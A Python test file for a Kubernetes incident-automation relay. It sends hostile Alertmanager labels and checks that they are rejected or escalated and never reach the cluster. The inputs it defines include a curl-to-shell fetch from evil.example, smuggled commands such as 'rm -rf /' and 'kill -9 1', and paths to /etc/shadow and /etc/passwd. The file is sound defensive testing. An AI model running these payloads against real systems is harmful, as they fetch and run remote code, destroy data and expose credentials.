"""Hostile alert labels, sent through the real relay to incidents with the real workers and the sandbox.

Alert labels are attacker-controlled as far as zerotouch is concerned (anyone who can
write a Prometheus rule, or push to Alertmanager, chooses them). Values that try path
traversal, shell injection, over-long or non-DNS-1123 names, look-alike Unicode or NUL
bytes must never become a Kubernetes API request: the incident escalates and says why.
Label *names* and sizes the relay cannot accept get a 422 naming the problem.
(tests/activities/test_kubernetes_actions.py checks the same names one level down, at
the activity.)
"""

from __future__ import annotations

import uuid
from pathlib import Path

import httpx
import pytest
from temporalio.testing import WorkflowEnvironment

from sandbox import SandboxCluster
from starters.relay.config import RelayConfig
from starters.relay.server import RelayServer
from tests.relay.conftest import alert, payload
from tests.support.policies import fast_policy
from tests.support.zt import running_workers, wait_for
from zerotouch.models import IncidentStatus
from zerotouch.names import WORKFLOWS_QUEUE, queue_for
from zerotouch.policy import load_policy

TOKEN = "hostile-" + uuid.uuid4().hex
SHELL = "$(curl -s http://evil.example/x | sh); `reboot`; ../../etc/shadow"

# (alertname, labels): each matches a shipped runbook whose target comes from the labels.
HOSTILE_TARGETS: list[tuple[str, dict[str, str]]] = [
    ("KubePodCrashLooping", {"namespace": "shop", "deployment": "../../api/v1/namespaces/kube-system/secrets"}),
    ("KubePodCrashLooping", {"namespace": "shop", "deployment": "web/../checkout"}),
    ("KubePodCrashLooping", {"namespace": "shop", "deployment": "web;rm -rf /"}),
    ("KubePodCrashLooping", {"namespace": "shop", "deployment": "web$(id)"}),
    ("KubePodCrashLooping", {"namespace": "shop", "deployment": "`reboot`"}),
    ("KubePodCrashLooping", {"namespace": "shop", "deployment": "w" * 254}),
    ("KubePodCrashLooping", {"namespace": "shop", "deployment": "Web_Server"}),
    ("KubePodCrashLooping", {"namespace": "shop", "deployment": "web\x00"}),
    ("KubePodOOMKilled", {"namespace": "shop", "deployment": "check\u043eut"}),  # Cyrillic o (U+043E)
    ("KubePodCrashLooping", {"namespace": "shop", "deployment": "em\u0430il-worker"}),  # Cyrillic a (U+0430)
    ("KubePodCrashLooping", {"namespace": "../kube-system", "deployment": "web"}),
    ("KubePodCrashLooping", {"namespace": "s" * 64, "deployment": "web"}),
    ("HighErrorRateAfterDeploy", {"namespace": "sh\u043ep", "deployment": "web"}),
    ("KafkaConsumerLagHigh", {"namespace": "shop", "consumergroup": "email-worker;kill -9 1"}),
]


async def test_hostile_labels_never_reach_the_cluster(
    dev_env: WorkflowEnvironment, sandbox: SandboxCluster, tmp_path: Path
) -> None:
    client = dev_env.client
    policy_path = fast_policy(tmp_path / "policy.yaml")
    policy = load_policy(policy_path)
    cluster = f"hostile{uuid.uuid4().hex[:6]}"
    relay = RelayServer(RelayConfig(port=0, token=TOKEN, group_by=policy.group_by, cluster=cluster), client)
    await relay.start()
    try:
        async with running_workers(client, cluster, kubernetes_url=sandbox.url, policy_path=str(policy_path)), \
                httpx.AsyncClient(base_url=relay.url, headers={"Authorization": f"Bearer {TOKEN}"},
                                  timeout=30) as http:
            incidents: list[tuple[dict[str, str], str]] = []
            for alertname, labels in HOSTILE_TARGETS:
                body = alert(alertname, severity="critical", **labels)
                body["annotations"] = {"summary": SHELL, "runbook_url": "file:///../../etc/passwd"}
                answer = await http.post("/alertmanager", json=payload(body))
                assert answer.status_code == 200, answer.text
                [incident_id] = answer.json()["incidents"]
                assert "/" not in incident_id and "\x00" not in incident_id and "$" not in incident_id
                incidents.append((labels, incident_id))
            for labels, incident_id in incidents:
                handle = client.get_workflow_handle(incident_id, result_type=IncidentStatus)
                status = await wait_for(handle, lambda s: s.state == "escalated", timeout=60)
                assert status.frozen and not status.actions and status.attempts == 0, status.model_dump_json()
                why = " ".join(entry.message for entry in status.timeline if entry.kind in ("triage", "escalation"))
                assert "is not a DNS-1123" in why, f"{labels}: {why}"
            assert sandbox.actions(include_failed=True) == [], "no request for any hostile target reached the API"

            # Control: the same pipeline does act on a well-formed alert, so the silence above means something.
            sandbox.inject("crashloop", namespace="shop", deployment="web")
            good = await http.post("/alertmanager", json=payload(alert("KubePodCrashLooping", namespace="shop",
                                                                       deployment="web", severity="critical")))
            [good_id] = good.json()["incidents"]
            await wait_for(client.get_workflow_handle(good_id), lambda s: s.state == "resolved", timeout=60)
    finally:
        await relay.stop()
    touched = {(a["namespace"], a["name"]) for a in sandbox.actions(include_failed=True)}
    assert touched == {("shop", "web")} and len(sandbox.actions(kind="restart")) == 1


@pytest.mark.parametrize(("labels", "annotations", "message"), [
    ({"deployment;rm": "web"}, {}, "label name 'deployment;rm' must match"),
    ({"../namespace": "shop"}, {}, "label name '../namespace' must match"),
    ({"deploy\u0430ment": "web"}, {}, "must match [a-zA-Z_][a-zA-Z0-9_]*"),
    ({"dep\x00loyment": "web"}, {}, "must match [a-zA-Z_][a-zA-Z0-9_]*"),
    ({"n" * 129: "x"}, {}, "must match [a-zA-Z_][a-zA-Z0-9_]*"),
    ({"deployment": "w" * 1025}, {}, "value of 'deployment' is longer than 1024 characters"),
    ({}, {"summary": "$(id)" * 2000}, "value of 'summary' is longer than 8192 characters"),
    ({f"l{i}": "x" for i in range(70)}, {}, "at most 64 entries allowed"),
])
async def test_unacceptable_labels_are_422_and_start_nothing(
    dev_env: WorkflowEnvironment, labels: dict[str, str], annotations: dict[str, str], message: str
) -> None:
    cluster = f"hostile{uuid.uuid4().hex[:6]}"
    alertname = f"Hostile{uuid.uuid4().hex[:8]}"
    relay = RelayServer(RelayConfig(port=0, token=TOKEN, cluster=cluster), dev_env.client)
    await relay.start()
    try:
        body = alert(alertname, **labels)
        body["annotations"].update(annotations)
        async with httpx.AsyncClient(base_url=relay.url, headers={"Authorization": f"Bearer {TOKEN}"}) as http:
            answer = await http.post("/alertmanager", json=payload(body))
    finally:
        await relay.stop()
    assert answer.status_code == 422 and message in answer.json()["detail"], answer.text
    queue = queue_for(WORKFLOWS_QUEUE, cluster)
    started = await dev_env.client.count_workflows(f'WorkflowType="IncidentWorkflow" AND TaskQueue="{queue}"')
    assert started.count == 0
